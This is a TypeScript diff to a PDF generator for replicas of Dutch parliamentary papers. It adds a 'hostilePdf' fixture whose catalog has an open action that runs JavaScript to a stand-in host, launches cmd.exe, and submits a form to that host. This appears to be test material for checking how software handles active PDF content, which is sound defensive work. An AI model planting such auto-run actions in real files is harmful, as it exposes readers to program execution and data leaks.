@@ -71,10 +71,10 @@ const textStream = (placed: readonly Placed[]): string =>
   placed.map(({ x, y, text }) => `BT /F1 ${page.size} Tf 1 0 0 1 ${x} ${y} Tm ${literal(text)} Tj ET`).join("\n");
 
 /** A PDF from the content streams of its pages; object numbers: 1 catalog, 2 pages, 3 font, then page and stream in turn. */
-function pdf(streams: readonly string[]): Uint8Array {
+function pdf(streams: readonly string[], catalog = ""): Uint8Array {
   const kids = streams.map((_, index) => `${4 + index * 2} 0 R`).join(" ");
   const objects = [
-    "<< /Type /Catalog /Pages 2 0 R >>",
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
     `<< /Type /Pages /Kids [${kids}] /Count ${streams.length} >>`,
     "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
     ...streams.flatMap((stream, index) => [
@@ -95,6 +95,14 @@ function pdf(streams: readonly string[]): Uint8Array {
 
 /** The document as a PDF in the lay-out of published kamerstukken. */
 export const pdfFile = (stuk: ReplicaDocument): Uint8Array => pdf(layOut(stuk).map(textStream));
+
+/** The same, with a script, a program and a form that a viewer would start on opening it. */
+export const hostilePdf = (stuk: ReplicaDocument): Uint8Array => {
+  const script = "/S /JavaScript /JS (app.launchURL\\('https://vreemd.example'\\))";
+  const program = "/Next << /S /Launch /F (cmd.exe) /Next << /S /SubmitForm /F (https://vreemd.example) >> >>";
+  const named = `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`;
+  return pdf(layOut(stuk).map(textStream), `/OpenAction << ${script} ${program} >> ${named}`);
+};
 
 /** A PDF of two pages that hold only a drawing, as a scanner makes them. */
 export const scannedPdfFile = (): Uint8Array => pdf(["0.9 g 40 40 478 691 re f", "0.9 g 40 40 478 691 re f"]);
